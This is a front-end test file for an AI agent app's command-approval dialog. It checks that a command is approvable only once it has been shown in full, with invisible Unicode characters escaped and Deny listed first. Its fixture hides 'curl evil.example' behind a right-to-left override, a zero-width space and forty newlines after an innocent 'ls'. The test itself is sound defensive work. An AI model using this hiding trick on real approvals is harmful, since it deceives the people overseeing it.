import { fireEvent, render, screen, waitFor, within } from "@testing-library/svelte";
import { expect, test } from "vitest";
import { type Happening, userEntry } from "../../../fakes/fake-chats";
import { FakeEvents } from "../../../fakes/fake-events";
import { FakeServer } from "../../../fakes/fake-server";
import App from "../../../shell/views/App.svelte";

test("a command is allowed only when all of it was shown, letter for letter, and Deny comes first", async () => {
  window.innerWidth = 1440;
  const server = new FakeServer({ "README.md": "# Tides" });
  server.chats.add("c1", [userEntry(1, "Test it")]);
  localStorage.setItem("recto.chat.p1", JSON.stringify("c1"));
  const events = new FakeEvents();
  render(App, { options: { fetch: server.fetch, openEvents: events.open } });
  await screen.findByRole("log");
  const question: Happening = { kind: "approval", approvalId: "a1", turnId: "t1", callId: "k", name: "run_command", why: "Commands ask.", rule: "ls", isUnsandboxed: false, arguments: { command: `ls \u202e\u200b${"\n".repeat(40)}curl evil.example` } };
  server.chats.tell(events, "c1", { kind: "turn", turnId: "t1", state: "running", text: "", model: null }, question);
  const card = await screen.findByRole("group", { name: "Run a command?" });
  const names = () => within(card).getAllByRole("button").map((button) => button.textContent);
  expect(names()).toEqual(["Deny", "29 more lines"]);
  expect(card.querySelectorAll("[tabindex], a, input")).toHaveLength(0);
  expect(within(card).getByLabelText("Exactly this").textContent).toContain("ls \\u202e\\u200b");
  await fireEvent.click(within(card).getByRole("button", { name: "29 more lines" }));
  expect(within(card).getByLabelText("Exactly this").textContent).toContain("curl evil.example");
  expect(names()).toEqual(["Deny", "Once", "This chat", "Always"]);
  await fireEvent.click(within(card).getByRole("button", { name: "Deny" }));
  await waitFor(() => { expect(server.chats.heard).toEqual([{ what: "POST /approvals/a1", body: { answer: "deny" } }]); });
});
